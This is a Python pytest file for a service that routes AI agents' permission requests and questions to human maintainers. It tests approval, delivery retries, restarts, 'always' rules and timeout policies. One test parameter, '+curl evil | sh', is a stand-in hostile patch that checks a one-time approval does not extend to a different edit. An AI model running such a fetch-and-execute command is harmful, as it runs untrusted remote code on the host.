"""What agents ask: taken once, answered once, delivered although things fail, and never asked of a person twice."""

from __future__ import annotations

from dataclasses import replace
from datetime import timedelta

import pytest

from agents.asks import AskEnded, Option, PermissionAsked, Question, QuestionAsked, SessionInfo
from agents.backend import TurnView
from sessions_app.models import AgentSession, Ask, PermissionRule, SubSession, Turn, TurnOutcome
from sessions_app.services import ask_timeouts, asks, pause, settle
from sessions_app.services.reconcile import reconcile, resume
from sessions_app.services.retries import mark_unknown, plan_retry
from studio.kernel.clock import now
from studio.kernel.errors import Conflict, Forbidden, Invalid, NotFound, Upstream
from studio.kernel.permissions import Role
from studio.models import FeedEvent
from studio.queue import Names
from tests.factories import make_member, make_profiles

AWAY = Upstream("away", code="server_unreachable", transient=True)


@pytest.fixture
def working(turn, session):
    """A running turn of an implementer on the server."""
    make_profiles()
    AgentSession.objects.filter(pk=session.pk).update(external_id="ses_a", role="implementer", subject="task-1")
    Turn.objects.filter(pk=turn.pk).update(state="running", started_at=now(), server_boot="boot-1")
    session.refresh_from_db()
    turn.refresh_from_db()
    return turn


@pytest.fixture
def outside(session):
    return PermissionAsked(
        "ses_a", "per_1", session.directory, "external_directory", ("/etc/*",), always=("/etc/*",),
        paths=("/etc/hosts",), call="call_1", title="Use files outside the checkout: /etc/*",
    )  # fmt: skip


@pytest.fixture
def question(session):
    options = (Option("A", "the first"), Option("B"))
    questions = (Question("Which?", "Choice", options, multiple=True), Question("Why?"))
    return QuestionAsked("ses_a", "que_1", session.directory, questions, title="Question: Choice")


@pytest.fixture
def maintainer(workspace):
    return make_member(workspace.project, Role.MAINTAINER)


def taken(backend, server, asked) -> Ask:
    backend.asked.append(asked)
    ask = asks.take(server, asked)
    assert ask is not None
    return ask


def kinds(session):
    return [event.kind for event in session.events.order_by("seq") if event.kind.startswith("ask.")]


def test_ask__becomes_a_row_once_and_stops_the_turns_clock(backend, server, working, outside, requested_jobs):
    ask = taken(backend, server, outside)
    assert asks.take(server, outside) == ask
    assert (ask.state, ask.asker, ask.permission, ask.patterns, ask.detail["paths"], ask.due_at > now()) == (
        "pending", "Implementer", "external_directory", ["/etc/*"], ["/etc/hosts"], True,
    )  # fmt: skip
    working.refresh_from_db()
    assert working.waiting_since is not None
    assert kinds(ask.session) == ["ask.opened"]
    event = FeedEvent.objects.get(kind="ask.opened")
    assert (event.topic, event.payload["ask"], event.payload["task"]) == ("task:task-1", str(ask.pk), "task-1")


def test_answer__is_stored_then_delivered_and_the_clock_goes_on(
    backend, server, working, outside, maintainer, requested_jobs, django_capture_on_commit_callbacks
):
    ask = taken(backend, server, outside)
    Turn.objects.filter(pk=working.pk).update(waiting_since=now() - timedelta(seconds=40))
    with django_capture_on_commit_callbacks(execute=True):
        answered = asks.answer(ask_id=ask.pk, actor=maintainer, reply="once")
    assert (answered.state, answered.reply, answered.answered_name) == ("answered", "once", maintainer.username)
    assert (Names.DELIVER_ANSWER, (str(ask.pk),)) in requested_jobs
    assert (Names.REFRESH_CARD, (str(working.pk),)) in requested_jobs
    working.refresh_from_db()
    assert (working.waiting_since, round(working.waited_seconds)) == (None, 40)
    assert backend.answered == []
    asks.deliver(ask.pk)
    asks.deliver(ask.pk)
    assert backend.answered == [("per_1", "once")]
    ask.refresh_from_db()
    assert ask.delivered_at is not None
    assert kinds(ask.session) == ["ask.opened", "ask.answered"]
    assert FeedEvent.objects.filter(kind="ask.closed").count() == 1


def test_second_answer__is_refused_with_who_and_what(backend, server, working, outside, maintainer, owner):
    ask = taken(backend, server, outside)
    asks.answer(ask_id=ask.pk, actor=maintainer, reply="reject", message="No.")
    with pytest.raises(Conflict) as refused:
        asks.answer(ask_id=ask.pk, actor=owner, reply="once")
    assert refused.value.code == "already_answered"
    assert {key: refused.value.detail[key] for key in ("reply", "by", "state")} == {
        "reply": "reject", "by": maintainer.username, "state": "answered",
    }  # fmt: skip
    asks.deliver(ask.pk)
    assert backend.answered == [("per_1", ("reject", "No."))]


def test_answer__takes_a_maintainer(backend, server, working, outside, stranger, workspace):
    ask = taken(backend, server, outside)
    with pytest.raises(NotFound):
        asks.answer(ask_id=ask.pk, actor=stranger, reply="once")
    with pytest.raises(Forbidden):
        asks.answer(ask_id=ask.pk, actor=make_member(workspace.project, Role.REVIEWER), reply="once")
    assert Ask.objects.get().state == "pending"


@pytest.mark.parametrize(
    "given",
    [
        {},
        {"reply": "perhaps"},
        {"reply": "answers"},
        {"answers": [["A"]]},
        {"reply": "once", "message": "x" * 10_001},
    ],
)
def test_answer__to_a_permission_is_checked(backend, server, working, outside, given):
    ask = taken(backend, server, outside)
    with pytest.raises(Invalid):
        asks.answer(ask_id=ask.pk, actor=None, **given)


@pytest.mark.parametrize(
    "given",
    [
        {"reply": "once"},
        {"reply": "always"},
        {"reply": "answers"},
        {"answers": [["A"]]},
        {"answers": "A"},
        {"answers": [["A"], "B"]},
        {"answers": [["A"], [7]]},
        {"answers": [["A"], ["x" * 10_001]]},
        {"answers": [["A"] * 51, []]},
        {"reply": "reject", "answers": [["A"], []]},
    ],
)
def test_answer__to_a_question_is_checked(backend, server, working, question, given):
    ask = taken(backend, server, question)
    with pytest.raises(Invalid):
        asks.answer(ask_id=ask.pk, actor=None, **given)


def test_answers__reach_the_agent_cleaned(backend, server, working, question):
    ask = taken(backend, server, question)
    asks.answer(ask_id=ask.pk, actor=None, answers=[["A", "my own\x00 words", "A"], []])
    asks.deliver(ask.pk)
    assert backend.answered == [("que_1", [["A", "my own words"], []])]


def test_question_that_nobody_wants_to_answer__does_not_end_the_turn(backend, server, working, question):
    ask = taken(backend, server, question)
    asks.answer(ask_id=ask.pk, actor=None, reply="reject", message="Ask the README.")
    asks.deliver(ask.pk)
    assert backend.answered == [("que_1", [["Ask the README."], ["Ask the README."]])]


def test_delivery__is_repeated_until_it_arrives(
    backend, server, working, outside, requested_jobs, django_capture_on_commit_callbacks
):
    ask = taken(backend, server, outside)
    asks.answer(ask_id=ask.pk, actor=None, reply="once")
    backend.fail["answer"] = AWAY
    asks.deliver(ask.pk)
    ask.refresh_from_db()
    assert ask.delivered_at is None
    assert ask.next_try_at > now()
    with django_capture_on_commit_callbacks(execute=True):
        ask_timeouts.sweep_asks()
    assert (Names.DELIVER_ANSWER, (str(ask.pk),)) not in requested_jobs
    del backend.fail["answer"]
    Ask.objects.update(next_try_at=now())
    with django_capture_on_commit_callbacks(execute=True):
        ask_timeouts.sweep_asks()
    assert (Names.DELIVER_ANSWER, (str(ask.pk),)) in requested_jobs
    asks.deliver(ask.pk)
    assert backend.answered == [("per_1", "once")]


def test_answer_that_the_server_no_longer_wants__waits_for_the_same_ask(
    backend, server, working, outside, requested_jobs, django_capture_on_commit_callbacks
):
    """The server was restarted between the answer and its delivery: nobody is asked twice."""
    ask = taken(backend, server, outside)
    asks.answer(ask_id=ask.pk, actor=None, reply="once")
    backend.asked.clear()
    with django_capture_on_commit_callbacks(execute=True):
        asks.deliver(ask.pk)
    ask.refresh_from_db()
    assert ask.state == "lost"
    assert (Names.RECONCILE_TURN, (str(working.pk),)) in requested_jobs
    other = taken(backend, server, replace(outside, id="per_2", patterns=("/var/*",)))
    assert other.state == "pending"
    again = taken(backend, server, replace(outside, id="per_3"))
    assert (again.state, again.reply, again.answered_name) == ("answered", "once", "studio")
    assert backend.answered == [("per_3", "once")]
    assert taken(backend, server, replace(outside, id="per_4")).state == "pending"  # it served once


def test_restart_of_the_server__loses_the_ask_and_the_resumed_turn_asks_anew(backend, server, working, outside):
    ask = taken(backend, server, outside)
    assert resume(Turn.objects.get(pk=working.pk))
    ask.refresh_from_db()
    working.refresh_from_db()
    assert (ask.state, working.state, working.resumes, working.waiting_since) == ("lost", "admitted", 0, None)
    with pytest.raises(Conflict) as refused:
        asks.answer(ask_id=ask.pk, actor=None, reply="once")
    assert refused.value.code == "ask_over"
    Turn.objects.filter(pk=working.pk).update(state="running")
    backend.asked.clear()
    assert taken(backend, server, replace(outside, id="per_2")).state == "pending"
    assert kinds(ask.session) == ["ask.opened", "ask.lost", "ask.opened"]


def test_answer_that_was_given_before_the_restart__is_not_asked_for_again(backend, server, working, outside):
    ask = taken(backend, server, outside)
    asks.answer(ask_id=ask.pk, actor=None, reply="reject", message="Never.")
    resume(Turn.objects.get(pk=working.pk))
    Turn.objects.filter(pk=working.pk).update(state="running")
    backend.asked.clear()
    again = taken(backend, server, replace(outside, id="per_2"))
    assert again.state == "answered"
    assert backend.answered == [("per_2", ("reject", "Never."))]


@pytest.mark.parametrize("patch", ["+echo hello", "+curl evil | sh"])
def test_once_that_was_given_before_the_restart__is_for_the_same_patch_only(
    backend, server, working, outside, session, patch
):
    PermissionRule.objects.create(project=session.project, permission="edit", pattern="*", action="ask", position=1)
    edit = replace(outside, permission="edit", patterns=("deploy.sh",), always=(), patch="+echo hello")
    ask = taken(backend, server, edit)
    asks.answer(ask_id=ask.pk, actor=None, reply="once")
    resume(Turn.objects.get(pk=working.pk))
    Turn.objects.filter(pk=working.pk).update(state="running")
    backend.asked.clear()
    again = taken(backend, server, replace(edit, id="per_2", call="call_2", patch=patch))
    assert again.state == ("answered" if patch == "+echo hello" else "pending")


def test_question_answered_before_the_restart__is_not_asked_again(backend, server, working, question):
    ask = taken(backend, server, question)
    asks.answer(ask_id=ask.pk, actor=None, answers=[["B"], ["So."]])
    resume(Turn.objects.get(pk=working.pk))
    Turn.objects.filter(pk=working.pk).update(state="running")
    backend.asked.clear()
    taken(backend, server, replace(question, id="que_2"))
    assert backend.answered == [("que_2", [["B"], ["So."]])]


@pytest.mark.parametrize("how", ["park", "retry", "unknown"])
def test_turn_that_is_stopped_on_the_server__loses_its_asks(backend, server, working, outside, how):
    ask = taken(backend, server, outside)
    turn = Turn.objects.get(pk=working.pk)
    if how == "park":
        pause.pause_turn(turn_id=turn.pk, reason="budget")
        pause.park(Turn.objects.get(pk=turn.pk), "")
    elif how == "retry":
        plan_retry(turn, "stalled", "x")
    else:
        mark_unknown(turn, "x")
    ask.refresh_from_db()
    turn.refresh_from_db()
    assert ask.state == "lost"
    assert turn.waiting_since is not None  # it waits for something else now


def test_end_of_the_turn__withdraws_what_waits(backend, server, working, outside):
    ask = taken(backend, server, outside)
    settle.settle(working.pk, TurnOutcome.ABORTED, error_code="aborted")
    ask.refresh_from_db()
    assert ask.state == "withdrawn"
    with pytest.raises(Conflict, match="turn has ended"):
        asks.answer(ask_id=ask.pk, actor=None, reply="once")
    assert kinds(ask.session) == ["ask.opened", "ask.withdrawn"]


def test_ask_of_a_turn_that_is_over_or_being_ended__is_left_alone(backend, server, working, outside):
    Turn.objects.filter(pk=working.pk).update(abort_requested_at=now())
    assert asks.take(server, outside) is None
    settle.settle(working.pk, TurnOutcome.ABORTED, error_code="aborted")
    assert asks.take(server, outside) is None
    assert not Ask.objects.exists()


def test_ask_of_another_programs_session__is_left_alone(backend, server, working, outside):
    assert asks.take(server, replace(outside, session="ses_other")) is None
    assert backend.answered == []


def test_sub_agent__however_deep_asks_in_its_own_name(backend, server, working, outside, session):
    backend.infos = {
        "ses_deep": SessionInfo("ses_mid", "Look deeper (@explore subagent)"),
        "ses_mid": SessionInfo("ses_a", "Look around (@general subagent)"),
    }
    ask = taken(backend, server, replace(outside, session="ses_deep"))
    assert (ask.session_id, ask.asker, ask.external_session) == (
        session.pk,
        "Look deeper (@explore subagent)",
        "ses_deep",
    )
    assert set(SubSession.objects.values_list("external_id", "parent_external_id")) == {
        ("ses_deep", "ses_mid"), ("ses_mid", "ses_a"),
    }  # fmt: skip


def test_sub_agent__that_the_bridge_knew_without_a_title(backend, server, working, outside, session):
    SubSession.objects.create(session=session, external_id="ses_sub", parent_external_id="ses_a")
    backend.infos = {"ses_sub": SessionInfo("ses_a", "Look around")}
    assert taken(backend, server, replace(outside, session="ses_sub")).asker == "Look around"


def test_what_the_roles_own_rules_decide__leaves_no_row(backend, server, working, session):
    command = PermissionAsked("ses_a", "per_1", session.directory, "bash", ("make test",), command="make test")
    backend.asked = [command, replace(command, id="per_2", patterns=("git push",))]
    assert asks.take(server, command) is None
    assert asks.take(server, backend.asked[0]) is None
    assert backend.answered == [("per_1", "once"), ("per_2", ("reject", asks.NOT_ALLOWED))]
    assert not Ask.objects.exists()


def test_question_of_a_reviewer__is_answered_by_its_role(backend, server, working, question, session):
    AgentSession.objects.filter(pk=session.pk).update(role="reviewer")
    backend.asked = [question]
    assert asks.take(server, question) is None
    assert backend.answered == [("que_1", [[asks.NO_QUESTIONS], [asks.NO_QUESTIONS]])]


def test_always__is_a_rule_of_the_studio_that_answers_from_then_on(
    backend, server, working, outside, maintainer, session, requested_jobs, django_capture_on_commit_callbacks
):
    first = taken(backend, server, outside)
    waiting = taken(backend, server, replace(outside, id="per_2"))
    other = taken(backend, server, replace(outside, id="per_3", patterns=("/var/*",)))
    with django_capture_on_commit_callbacks(execute=True):
        asks.answer(ask_id=first.pk, actor=maintainer, reply="always")
    row = PermissionRule.objects.get()
    assert (row.project, row.profile.role, row.permission, row.pattern, row.action, row.from_ask) == (
        session.project, "implementer", "external_directory", "/etc/*", "allow", first,
    )  # fmt: skip
    asks.deliver(first.pk)
    assert backend.answered == [("per_1", "once")]  # the server is never told more
    assert (Names.RECONSIDER_ASKS, (str(session.project_id),)) in requested_jobs
    assert asks.reconsider(session.project_id) == 1
    waiting.refresh_from_db()
    other.refresh_from_db()
    assert (waiting.state, waiting.answered_name, other.state) == ("answered", "policy", "pending")
    again = taken(backend, server, replace(outside, id="per_4"))
    assert (again.state, again.answered_name, backend.answered[-1]) == ("answered", "policy", ("per_4", "once"))


def test_always__twice_keeps_one_rule(backend, server, working, outside):
    for number in (1, 2):
        PermissionRule.objects.update(action="ask")
        ask = taken(backend, server, replace(outside, id=f"per_{number}"))
        asks.answer(ask_id=ask.pk, actor=None, reply="always")
    assert [(row.action, row.pattern) for row in PermissionRule.objects.all()] == [("allow", "/etc/*")]


@pytest.mark.parametrize("pattern", ["{root}/*", "{root}/DEMO/*", "/*", "*"])
def test_always__does_not_open_the_checkouts_of_other_tasks(backend, server, working, outside, settings, pattern):
    pattern = pattern.format(root=settings.STUDIO_WORKSPACE_ROOT.resolve())
    ask = taken(backend, server, replace(outside, patterns=(pattern,), always=(pattern,)))
    with pytest.raises(Invalid):
        asks.answer(ask_id=ask.pk, actor=None, reply="always")
    assert asks.answer(ask_id=ask.pk, actor=None, reply="once").reply == "once"


def test_always__is_refused_for_what_could_not_be_shown_in_full(backend, server, working, outside):
    ask = taken(backend, server, replace(outside, exact=False))
    assert ask.always == []
    with pytest.raises(Invalid, match="only be allowed once"):
        asks.answer(ask_id=ask.pk, actor=None, reply="always")
    asks.answer(ask_id=ask.pk, actor=None, reply="once")


def test_sync__finds_what_nobody_told_and_what_was_forgotten(
    backend, server, working, outside, session, requested_jobs, django_capture_on_commit_callbacks
):
    gone = taken(backend, server, outside)
    backend.asked = [replace(outside, id="per_2", session="ses_other"), replace(outside, id="per_3")]
    with django_capture_on_commit_callbacks(execute=True):
        asks.sync(server, asks.turns_at_work(server))
    gone.refresh_from_db()
    assert gone.state == "lost"
    assert (Names.RECONCILE_TURN, (str(working.pk),)) in requested_jobs
    assert set(Ask.objects.values_list("external_id", "state")) == {("per_1", "lost"), ("per_3", "pending")}
    with pytest.raises(Upstream):
        backend.fail["pending_asks"] = AWAY
        asks.sync(server, {session.directory})
    assert Ask.objects.filter(state="pending").count() == 1


def test_sync__leaves_a_waiting_ask_alone_while_its_turn_is_not_running(backend, server, working, outside, session):
    ask = taken(backend, server, outside)
    Turn.objects.filter(pk=working.pk).update(state="dispatching")
    backend.asked = []
    asks.sync(server, {session.directory})
    ask.refresh_from_db()
    assert ask.state == "pending"


def test_answer_at_the_server__closes_the_ask(backend, server, working, outside):
    ask = taken(backend, server, outside)
    asks.ended(server, AskEnded("ses_a", "per_1", "reject"))
    asks.ended(server, AskEnded("ses_a", "per_unknown", "once"))
    ask.refresh_from_db()
    assert (ask.state, ask.reply, ask.answered_name) == ("answered", "reject", "the agent server")
    assert ask.delivered_at is not None


def test_news_of_our_own_answer__does_not_change_who_gave_it(backend, server, working, outside, maintainer):
    ask = taken(backend, server, outside)
    asks.answer(ask_id=ask.pk, actor=maintainer, reply="once")
    asks.ended(server, AskEnded("ses_a", "per_1", "once"))
    ask.refresh_from_db()
    assert (ask.answered_name, ask.delivered_at is not None) == (maintainer.username, True)
    asks.deliver(ask.pk)
    assert backend.answered == []


@pytest.fixture
def overdue(backend, server, working, outside):
    ask = taken(backend, server, outside)
    Ask.objects.filter(pk=ask.pk).update(due_at=now() - timedelta(seconds=1))
    ask.refresh_from_db()
    return ask


def test_time_out__reminds_by_default_and_waits_on(overdue):
    assert ask_timeouts.sweep_asks() == 1
    overdue.refresh_from_db()
    assert overdue.state == "pending"
    assert overdue.reminded_at is not None
    assert overdue.due_at > now() + timedelta(minutes=59)
    assert FeedEvent.objects.filter(kind="ask.reminded").count() == 1
    assert ask_timeouts.sweep_asks() == 0


def test_time_out__rejects_where_the_policy_says_so(overdue, backend, session):
    ask_timeouts.set_policy(actor=None, project=session.project, timeout_minutes=5, action="reject")
    Ask.objects.update(due_at=now() - timedelta(seconds=1))
    ask_timeouts.sweep_asks()
    overdue.refresh_from_db()
    assert (overdue.state, overdue.reply, overdue.answered_name) == ("expired", "reject", "policy")
    asks.deliver(overdue.pk)
    assert backend.answered == [("per_1", ("reject", ask_timeouts.IN_VAIN))]
    with pytest.raises(Conflict) as refused:
        asks.answer(ask_id=overdue.pk, actor=None, reply="once")
    assert refused.value.code == "ask_over"


def test_time_out__stops_the_turn_where_the_policy_says_so(overdue, backend, session, working):
    ask_timeouts.set_policy(actor=None, project=session.project, timeout_minutes=5, action="stop")
    Ask.objects.update(due_at=now() - timedelta(seconds=1))
    ask_timeouts.sweep_asks()
    working.refresh_from_db()
    assert working.abort_reason == "ask_expired"
    backend.view = TurnView("aborted", error_code="aborted")
    reconcile(working.pk)
    working.refresh_from_db()
    overdue.refresh_from_db()
    assert (working.outcome, working.error_code, overdue.state) == ("failed", "ask_expired", "expired")


def test_policy__holds_for_what_waits_already(overdue, session):
    ask_timeouts.set_policy(actor=None, project=session.project, timeout_minutes=600, action="stop")
    overdue.refresh_from_db()
    assert overdue.due_at > now() + timedelta(minutes=598)
    assert ask_timeouts.sweep_asks() == 0


@pytest.mark.parametrize(("minutes", "action"), [(0, "stop"), (-1, "stop"), (10**9, "stop"), (5, "perhaps")])
def test_policy__is_checked(session, minutes, action):
    with pytest.raises(Invalid):
        ask_timeouts.set_policy(actor=None, project=session.project, timeout_minutes=minutes, action=action)


def test_policy__takes_an_owner(session, maintainer):
    with pytest.raises(Forbidden):
        ask_timeouts.set_policy(actor=maintainer, project=session.project, timeout_minutes=5, action="stop")
